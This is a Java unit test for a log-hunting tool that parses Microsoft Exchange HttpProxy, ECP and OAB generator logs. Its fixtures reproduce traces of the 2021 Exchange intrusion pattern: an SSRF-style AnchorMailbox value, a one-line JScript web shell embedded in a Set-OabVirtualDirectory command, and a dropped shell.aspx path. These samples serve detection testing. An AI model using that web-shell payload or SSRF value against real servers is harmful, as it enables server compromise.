package dev.vigil.ingest.exchange;

import dev.vigil.event.Event;
import dev.vigil.ingest.EventReader;
import dev.vigil.ingest.InputFiles;
import dev.vigil.ingest.InputFormats;
import dev.vigil.ingest.InputProblem;
import dev.vigil.ingest.Reading;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;

import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Clock;
import java.time.Instant;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;

import static org.assertj.core.api.Assertions.assertThat;

/** The three Exchange CSV readers on fixtures written from the formats in docs/exchange.md. */
class ExchangeLogFormatTest {
    private static final Path FIXTURES = Path.of("src/test/resources/dev/vigil/ingest/exchange");
    private static final Path HTTP_PROXY = FIXTURES.resolve("Logging/HttpProxy/Ecp/HttpProxy_2021030302-1.LOG");
    private static final Path ECP_SERVER = FIXTURES.resolve("ECPServer20210303-1.LOG");
    private static final Path OAB = FIXTURES.resolve("OABGeneratorLog/OABGeneratorLog_20210303-1.LOG");

    private record Read(List<Event> events, List<InputProblem> problems) {
        Map<String, String> texts(int index) {
            return Reading.Result.texts(events.get(index));
        }
    }

    /** Reads a file the way a hunt does: format detected from name and head, source named by its path. */
    private static Read hunt(Path file) throws IOException {
        List<InputProblem> problems = new ArrayList<>();
        try (EventReader reader = new InputFiles(InputFormats.standard(Clock.systemUTC()), problems::add).open(file)) {
            List<Event> events = new ArrayList<>();
            Event event;
            while ((event = reader.next()) != null) {
                events.add(event);
            }
            return new Read(events, problems);
        }
    }

    @Test
    void httpProxyRowsAreKeyedByTheFieldsLineInForceAndReKeyedMidFile() throws IOException {
        Read read = hunt(HTTP_PROXY);
        assertThat(read.events()).hasSize(4);
        assertThat(read.events()).allSatisfy(event -> assertThat(event.origin().format()).isEqualTo("exchange-httpproxy"));
        Map<String, String> first = read.texts(0);
        assertThat(first).containsEntry("UrlStem", "/ecp/default.aspx")
                .containsEntry("AuthenticatedUser", "CONTOSO\\j.smith")
                .containsEntry("UserAgent", "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
                        + "Chrome/88.0.4324.190 Safari/537.36")
                .containsEntry("UrlQuery", "?ExchClientVer=15")
                .containsEntry("ProtocolFolder", "Ecp")
                .doesNotContainKey("RoutingStatus");
        assertThat(first).hasSize(69 + 1);
        assertThat(read.events().get(0).timestamp()).isEqualTo(Instant.parse("2021-03-03T02:14:07.331Z"));
        assertThat(read.events().get(0).origin().record()).isEqualTo(6);
        Map<String, String> ssrf = read.texts(1);
        assertThat(ssrf).containsEntry("AuthenticatedUser", "")
                .containsEntry("AnchorMailbox", "ServerInfo~EXCH02.contoso.com/ecp/DDI/DDIService.svc/SetObject?schema=ResetOABVirtualDirectory#")
                .containsEntry("GenericInfo", "a,b");
        Map<String, String> newer = read.texts(2);
        assertThat(newer).containsEntry("RoutingStatus", "CafeV1")
                .containsEntry("UserAgent", "Probe \"quoted\" agent, v1")
                .containsEntry("GenericErrors", "line one\nline two")
                .containsEntry("HttpStatus", "241");
        assertThat(newer).hasSize(74 + 1);
        assertThat(read.events().get(2).origin().record()).isEqualTo(14);
        assertThat(read.texts(3)).containsEntry("RequestId", "c3").containsEntry("HttpStatus", "302");
        assertThat(read.problems()).extracting(InputProblem::toString).containsExactly(
                HTTP_PROXY + ":8: expected 69 fields as in #Fields, found 4, skipped",
                HTTP_PROXY + ":16: quoted value not closed, row skipped");
    }

    @Test
    void ecpEventDataEntriesBecomeFieldsAndSemicolonsInsideACommandSurvive() throws IOException {
        Read read = hunt(ECP_SERVER);
        assertThat(read.events()).hasSize(3);
        Map<String, String> set = read.texts(0);
        assertThat(set).containsEntry("EventId", "ECP.Request")
                .containsEntry("CMD", "Set-OabVirtualDirectory.ExternalUrl='http://f/<script language=\"JScript\" runat=\"server\">"
                        + "function Page_Load(){eval(Request[\"orange\"],\"unsafe\");}</script>'.Identity='0c2a5d3e-6b1f-4a7c-9e2d-1f3b5a7c9e0d'")
                .containsEntry("URL", "/ecp/DDI/DDIService.svc/SetObject?schema=OABVirtualDirectory&msExchEcpCanary=Zx3kbd")
                .containsEntry("BLD", "15.1.2106.2")
                .containsEntry("REQID", "")
                .doesNotContainKey("ADS.C[DC01]");
        assertThat(set.get("EventData")).startsWith("S:TIME=1204;").endsWith("F:ADS.AL[DC01]=1.12");
        assertThat(read.events().get(0).timestamp()).isEqualTo(Instant.parse("2021-03-03T02:21:05.117Z"));
        assertThat(read.texts(1)).containsEntry("CMD", "Get-InboxRule").containsEntry("BLD", "15.1.2106.2");
        assertThat(read.texts(2)).containsEntry("CMD", "x");
        assertThat(read.events().get(2).timestamp()).isNull();
        assertThat(read.problems()).extracting(InputProblem::toString).containsExactly(
                ECP_SERVER + ":8: unreadable timestamp 'not a timestamp' in TimeStamp, event kept without a time",
                ECP_SERVER + ":9: expected 4 fields as in #Fields, found 3, skipped");
    }

    @Test
    void oabGeneratorRowsHaveAMessage() throws IOException {
        Read read = hunt(OAB);
        assertThat(read.events()).hasSize(2);
        assertThat(read.events().get(0).origin().format()).isEqualTo("exchange-oab");
        assertThat(read.texts(0)).containsEntry("Message",
                "Download failed and temporary file 'C:\\inetpub\\wwwroot\\aspnet_client\\shell.aspx' needs to be removed")
                .containsEntry("Level", "Error");
        assertThat(read.events().get(0).timestamp()).isEqualTo(Instant.parse("2021-03-03T02:23:41.908Z"));
        assertThat(read.problems()).isEmpty();
    }

    @Test
    void oabGeneratorLinesWithoutAFieldListAreReadAsFreeText() throws IOException {
        Read read = hunt(FIXTURES.resolve("OABGeneratorLog/OABGeneratorLog_20210303-2.LOG"));
        assertThat(read.events()).hasSize(2);
        assertThat(read.texts(0).get("Message")).startsWith("2021-03-03T02:23:41.908Z Download failed");
        assertThat(read.events().get(0).timestamp()).isEqualTo(Instant.parse("2021-03-03T02:23:41.908Z"));
        assertThat(read.texts(1)).containsEntry("Message", "no time here, \"odd quote");
        assertThat(read.problems()).isEmpty();
    }

    @Test
    void aHeaderRowWithoutHashIsTheFieldListAndARepeatedOneIsSkipped() throws IOException {
        String text = "DateTime,RequestId,UrlStem,AnchorMailbox\r\n"
                + "#Software: Microsoft Exchange Server\r\n#Log-type: HttpProxy Logs\r\n"
                + "#Fields: DateTime,RequestId,UrlStem,AnchorMailbox\r\n"
                + "DateTime,RequestId,UrlStem,AnchorMailbox\r\n"
                + "2021-03-03T02:00:00Z,r1,/owa/auth/x.js,ServerInfo~a]@b:444/x#\r\n";
        Reading.Result result = Reading.read(new ExchangeLogFormat(ExchangeLog.HTTP_PROXY), text);
        assertThat(result.texts(0)).containsEntry("UrlStem", "/owa/auth/x.js").doesNotContainKey("ProtocolFolder");
        assertThat(result.events()).hasSize(1);
        assertThat(result.problems()).isEmpty();
    }

    @Test
    void dataBeforeAnyFieldListIsReportedForCsvLogs() throws IOException {
        Reading.Result result = Reading.read(new ExchangeLogFormat(ExchangeLog.ECP), "2021-03-03T02:00:00Z,EXCH01,x,S:CMD=y\n");
        assertThat(result.events()).isEmpty();
        assertThat(result.problems()).extracting(InputProblem::toString)
                .containsExactly("test.log:1: data line before any #Fields directive, skipped");
    }

    @ParameterizedTest(name = "{0} is read as {1}")
    @CsvSource({
            "Logging/HttpProxy/Ecp/HttpProxy_2021030302-1.LOG, exchange-httpproxy",
            "ECPServer20210303-1.LOG, exchange-ecp",
            "OABGeneratorLog/OABGeneratorLog_20210303-1.LOG, exchange-oab",
            "OABGeneratorLog/OABGeneratorLog_20210303-2.LOG, exchange-oab"})
    void eachLogIsRecognisedByItsHeaderOrPlace(String file, String format) throws IOException {
        byte[] head = Files.readAllBytes(FIXTURES.resolve(file));
        assertThat(InputFormats.standard(Clock.systemUTC()).detect(FIXTURES.resolve(file).toString(), head, head.length))
                .map(found -> found.name()).contains(format);
    }

    @Test
    void otherExchangeLogsAndIisLogsAreNotClaimed() {
        byte[] agentLog = ("#Software: Microsoft Exchange Server\n#Version: 15.0.0.0\n#Log-type: Agent Log\n"
                + "#Fields: Timestamp,SessionId,LocalEndpoint\n").getBytes(StandardCharsets.UTF_8);
        byte[] iis = "#Software: Microsoft Internet Information Services 10.0\n#Fields: date time cs-uri-stem\n"
                .getBytes(StandardCharsets.UTF_8);
        for (ExchangeLog log : ExchangeLog.values()) {
            ExchangeLogFormat format = new ExchangeLogFormat(log);
            assertThat(format.sniff("AgentLog20220913-1.LOG", agentLog, agentLog.length)).as(log.name()).isZero();
            assertThat(format.sniff("u_ex210303.log", iis, iis.length)).as(log.name()).isZero();
        }
    }
}
